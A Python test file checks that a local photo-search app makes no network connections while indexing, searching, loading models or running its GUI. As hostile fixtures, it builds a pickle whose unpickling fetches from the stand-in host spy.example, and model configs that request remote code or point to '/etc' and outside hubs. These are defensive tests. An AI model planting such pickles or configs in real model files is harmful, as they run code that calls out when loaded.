"""Nothing leaves the machine: what is done where the only network records each packet sends none.

Unlike a watch in Python, it also hears Qt, FFmpeg, and whatever else has sockets of its own.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

import pytest

from photosearch.encoders.files import manifests
from photosearch.encoders.files.architectures import Preprocessing
from photosearch.encoders.files.manifests import Manifest
from photosearch.jobs import Job
from photosearch.library import Library
from support.models.tiny_models import TINY, small_network, tiny_open_clip
from support.processes import ear

pytestmark = pytest.mark.skipif(bool(ear.why_not()), reason=ear.why_not() or "works here")

NAME, PICTURES = "people/tiny", "timm/mobilenetv3_small_050.lamb_in1k"
OUTSIDE = "spy.example"
LONG = 300


@dataclass(frozen=True)
class Heard:
    code: int
    out: str
    err: str
    packets: list[str]


Run = Callable[..., Heard]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """Whatever asks for silence is taken away: the program has to keep it by itself."""
    for name, value in {
        "HF_HUB_OFFLINE": "0",
        "HF_HUB_DISABLE_TELEMETRY": "0",
        "HF_HOME": str(tmp_path / "hugging-face"),
        "TORCH_HOME": str(tmp_path / "torch"),
        "QT_QPA_PLATFORM": "offscreen",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("HF_ENDPOINT", raising=False)

    def listen(*command: str | Path) -> Heard:
        record = tmp_path / "packets.txt"
        words = ear.alone_with(record, sys.executable, *command)
        done = subprocess.run(words, capture_output=True, text=True, check=False, timeout=LONG)
        return Heard(done.returncode, done.stdout, done.stderr, record.read_text().splitlines())

    return listen


CALLS = {
    "to 192.0.2.1": "socket.create_connection(('192.0.2.1', 80), 0.2)",
    "20010db8": "socket.create_connection(('2001:db8::1', 80), 0.2)",
    "to 127.0.0.1": "socket.create_connection(('127.0.0.1', 80), 0.2)",
    "protocol 17": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.2', 9))",
    "spy": "socket.getaddrinfo('spy.example', 80)",
    "to 192.0.2.3": (  # a process of a process
        "subprocess.run([sys.executable, '-c', 'import socket; "
        'socket.create_connection(("192.0.2.3", 80), 0.2)\'], stderr=subprocess.DEVNULL)'
    ),
    "to 192.0.2.4": (
        "QtNetwork = __import__('PySide6.QtNetwork').QtNetwork; s = QtNetwork.QTcpSocket();"
        "s.connectToHost('192.0.2.4', 80); s.waitForConnected(200)"
    ),
}
"""What a packet says -> who sends it."""

TRY_ALL = """
import socket, subprocess, sys
def tried(what, code):
    try:
        exec(code)
    except Exception as error:
        print(what, "|", type(error).__name__, error, flush=True)
    else:
        print(what, "| nothing was wrong", flush=True)
"""


def try_all(run: Run, calls: dict[str, str], before: str = "") -> Heard:
    lines = [f"tried({what!r}, {code!r})" for what, code in calls.items()]
    return run("-c", "\n".join([TRY_ALL, before, *lines]))


def test_it_hears_whoever_speaks(run: Run) -> None:
    heard = try_all(run, CALLS)
    unheard = [what for what in CALLS if not any(what in packet for packet in heard.packets)]
    assert unheard == [], heard


REFUSED = {
    "a socket": CALLS["to 192.0.2.1"],
    "a name": CALLS["spy"],
    "the standard library": "import urllib.request as u; u.urlopen('http://192.0.2.1', timeout=1)",
    "the hub's client": (
        "import huggingface_hub as h; h.constants.HF_HUB_OFFLINE = False;"
        "h.get_session().get('http://192.0.2.1', timeout=1)"
    ),
    "torch's hub": "import torch; torch.hub.load_state_dict_from_url('http://192.0.2.1/x.pt')",
    "timm": (
        "import timm; timm.create_model('mobilenetv3_small_050', pretrained=True,"
        "pretrained_cfg_overlay={'url': 'http://192.0.2.1/x.pt', 'hf_hub_id': None})"
    ),
    "open_clip": (
        "from open_clip.pretrained import download_pretrained_from_url as get;"
        "get('http://192.0.2.1/x.pt')"
    ),
}


def test_whoever_tries_finds_no_network(run: Run) -> None:
    """Libraries that the hub's switch doesn't reach, too."""
    tried = try_all(run, REFUSED, "from photosearch import network; network.shut()")
    assert tried.packets == []
    said = dict(line.split(" | ", 1) for line in tried.out.splitlines() if " | " in line)
    assert list(said) == list(REFUSED), tried.err
    for who, error in said.items():
        assert "Error" in error, who
        assert "timed out" not in error, who


def test_the_hub_s_words_about_us_find_no_network(run: Run) -> None:
    """They are sent in a thread that swallows each error."""
    tell = (
        "import huggingface_hub as h, huggingface_hub.utils._telemetry as t;"
        "h.constants.HF_HUB_OFFLINE = False; h.utils.send_telemetry('x');"
        "t._TELEMETRY_QUEUE.join(); print('told')"
    )
    heard = run("-c", f"from photosearch import network; network.shut(); {tell}")
    assert heard.out == "told\n", heard.err
    assert heard.packets == []


COMMANDS = """
from photosearch import network
from photosearch.cli import main
from photosearch.encoders.runtime.towers import IN_PROCESS
from photosearch.library import library
if __name__ == "__main__":
    network.shut()
    if not {apart}:
        library._encoder_runtime = lambda _: IN_PROCESS
    print([main(line) for line in {lines!r}])
"""


def commands(
    run: Run, tmp_path: Path, *lines: tuple[str | Path, ...], apart: bool = False
) -> Heard:
    """Each as the command would do it, one after the other in one process.

    `apart`: pictures are encoded in a child of each, as is usual, which takes seconds to import
    torch.
    """
    script = tmp_path / "commands.py"
    words = [["--library", str(tmp_path / "library"), *map(str, line)] for line in lines]
    script.write_text(COMMANDS.format(apart=apart, lines=words), encoding="utf-8")
    return run(script)


def codes(heard: Heard) -> list[int]:
    found: list[int] = json.loads(heard.out.splitlines()[-1])
    return found


def test_indexing_and_every_kind_of_search_are_silent(
    run: Run, photos: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.png"
    outside.write_bytes((photos / "cat.jpg").read_bytes() + b"another file")
    heard = commands(
        run,
        tmp_path,
        ("index", photos),
        ("search", "a cat"),
        ("search", "--image", outside, "--not", "a dog"),
        ("search", "photo:1"),
        ("search", f'"https://{OUTSIDE}/cat.jpg"'),
        ("embed", "--text", "a cat", "--image", outside),
        ("status",),
        ("models",),
        apart=True,
    )
    assert codes(heard) == [0] * 8, heard.err
    assert "cat.jpg" in heard.out
    assert heard.packets == []


HOSTILE_NAMES = (
    "hf-hub:spy/net",
    "timm/hf-hub:spy/net",
    "timm/hf_hub:spy/net",
    "timm/local-dir:/etc",
    "timm/https://spy.example/net",
    "https://spy.example/net",
    "timm/vit_base_patch16_224.augreg_in21k",
    "ViT-B-32/laion2b_s34b_b79k",
)
SOUND_NAME = "ViT-B-32"
"""Weights that don't fit it are compared with each of open_clip's architectures."""
HOSTILE_WORDS = {
    "_name_or_path": f"https://{OUTSIDE}/net",
    "trust_remote_code": True,
    "auto_map": {"AutoModel": f"spy/net--https://{OUTSIDE}/code.py"},
    "model_cfg": {"vision_cfg": {"timm_model_name": "hf-hub:spy/net"}},
    "hf_hub_id": "spy/net",
    "url": f"https://{OUTSIDE}/weights.pt",
}
BESIDE = ("config.json", "open_clip_config.json", "tokenizer_config.json", "tokenizer.json")


class _CallsHome:
    """Unpickling it would fetch something."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        from urllib.request import urlopen

        return urlopen, (f"http://{OUTSIDE}/",)


def write_hostile(folder: Path) -> list[Path]:
    """Weights of several kinds that name addresses, in their own words and in files beside."""
    import pickle

    import torch
    from safetensors.torch import load, save_file

    folder.mkdir()
    for name in BESIDE:
        (folder / name).write_text(json.dumps(HOSTILE_WORDS), encoding="utf-8")
    named = {key: json.dumps(value) for key, value in HOSTILE_WORDS.items()}
    save_file(load(tiny_open_clip().weights), folder / "named.safetensors", named)
    torch.save({"state_dict": {}, "x": _CallsHome()}, folder / "calls.pt")
    (folder / "calls.bin").write_bytes(pickle.dumps(_CallsHome()))
    (folder / "link.pt").write_text(f"https://{OUTSIDE}/weights.pt", encoding="utf-8")
    return sorted(path for path in folder.iterdir() if path.suffix != ".json")


def test_adding_models_is_silent_whatever_they_are_called_and_say(
    run: Run, tmp_path: Path, photos: Path
) -> None:
    weights = write_hostile(tmp_path / "model")
    small = tmp_path / "model" / "small.safetensors"
    small.write_bytes(small_network())
    adds = [
        ("models", "add", "--arch", name, "--weights", path)
        for name, paths in [(SOUND_NAME, weights), *((n, weights[-1:]) for n in HOSTILE_NAMES)]
        for path in paths
    ]
    heard = commands(
        run,
        tmp_path,
        *adds,
        ("models", "add", "--arch", PICTURES, "--weights", f"https://{OUTSIDE}/w.safetensors"),
        ("models", "use", "hf-hub:spy/net"),
        ("--model", "hf-hub:spy/net", "index", photos),
        ("models", "add", "--arch", PICTURES, "--weights", small),
    )
    assert codes(heard) == [1] * (len(adds) + 3) + [0], heard.err
    assert "Traceback" not in heard.err
    assert heard.packets == []


ODD_NETWORKS = {
    "hub": {"image_size": 32, "timm_model_name": "hf-hub:spy/net"},
    "directory": {"image_size": 32, "timm_model_name": "local-dir:/etc"},
    "fetched": {
        "image_size": 32,
        "timm_model_name": "mobilenetv3_small_050",
        "timm_model_pretrained": True,
        "timm_proj": "linear",
    },
}


def plant(library: Path, model_id: str, config: dict[str, object]) -> None:
    """A model as a download leaves it, with all that could be said beside."""
    models = library / "models"
    prepared = asdict(Preprocessing(32, 32))
    made = Manifest(model_id, "open_clip", "x", 32, "w.safetensors", prepared, config)
    manifests.save(models, made)
    folder = manifests.directory_of(models, model_id)
    for name in BESIDE:
        (folder / name).write_text(json.dumps(HOSTILE_WORDS), encoding="utf-8")
    (folder / "w.safetensors").write_bytes(tiny_open_clip().weights)


def test_indexing_and_searching_with_hostile_models_are_silent(
    run: Run, tmp_path: Path, photos: Path
) -> None:
    plant(tmp_path / "library", "hf-hub:sound", TINY)
    for name, vision in ODD_NETWORKS.items():
        plant(tmp_path / "library", f"hf-hub:{name}", {**TINY, "vision_cfg": vision})
    text = {**TINY["text_cfg"], "hf_tokenizer_name": "spy/net", "hf_model_name": "spy/net"}
    plant(tmp_path / "library", "hf-hub:text", {**TINY, "text_cfg": text})
    lines = [
        ("--model", f"hf-hub:{name}", *words)
        for name in ("sound", *ODD_NETWORKS, "text")
        for words in (("index", photos), ("search", "a cat"))
    ]
    heard = commands(run, tmp_path, *lines)
    assert codes(heard)[:2] == [0, 0], heard.err
    assert 1 in codes(heard)[2:]
    assert heard.packets == []


WINDOW = """
import sys
from pathlib import Path
from PySide6.QtCore import QTimer
from photosearch import network
from photosearch.gui.startup import app as gui_app
from photosearch.gui.main_window import main_window

class Window(main_window.MainWindow):
    def __init__(self, engine):
        super().__init__(engine)
        self.steps = self.act()
        self.poll = QTimer(self, interval=50)
        self.poll.timeout.connect(lambda: next(self.steps, None))
        self.poll.start()

    def act(self):
        grid = self.page.grid
        while len(grid.hits) < 5:
            yield
        self.page.bar.state.update(text="a cat")
        while grid.hits[0].score is None:
            yield
        self.drop_and_paste.find_similar(grid.hits[0])
        self.window_actions.show_guide()
        self.model_banner.open_page()
        for _ in range(20):  # a second in which anything could be looked for
            yield
        print([hit.path.name for hit in grid.hits][0])
        self.close()

if __name__ == "__main__":
    network.shut()
    gui_app.MainWindow = Window
    sys.exit(gui_app.run(Path(sys.argv[1]), "starter", []))
"""


def test_the_window_is_silent(run: Run, photos: Path, tmp_path: Path) -> None:
    with Library.open(tmp_path / "library", "starter") as library:
        library.folders.add(photos)
        library.index.run(Job())
    script = tmp_path / "window.py"
    script.write_text(WINDOW, encoding="utf-8")
    heard = run(script, tmp_path / "library")
    assert heard.code == 0, heard.err
    assert heard.out.strip(), heard.err
    assert heard.packets == []


def test_the_real_command_shuts_the_network(run: Run, tmp_path: Path, photos: Path) -> None:
    """Also in the processes that it starts: each says whether it could call out."""
    shutil.copy(photos / "cat.jpg", tmp_path / "one.jpg")
    code = (
        "import sys, socket, photosearch.__main__ as m, photosearch.cli as c\n"
        "from photosearch.encoders.runtime.child_process import ChildProcess\n"
        "def probe():\n"
        "    try:\n"
        "        socket.create_connection(('192.0.2.1', 80), 0.2)\n"
        "    except OSError as error:\n"
        "        return str(error)\n"
        "if __name__ == '__main__':\n"
        "    c.main = lambda: print(probe(), ChildProcess().run(probe))\n"
        "    m.main()\n"
    )
    script = tmp_path / "probe.py"
    script.write_text(code, encoding="utf-8")
    heard = run(script)
    assert heard.out.count("only for a download") == 2, heard.err
    assert heard.packets == []
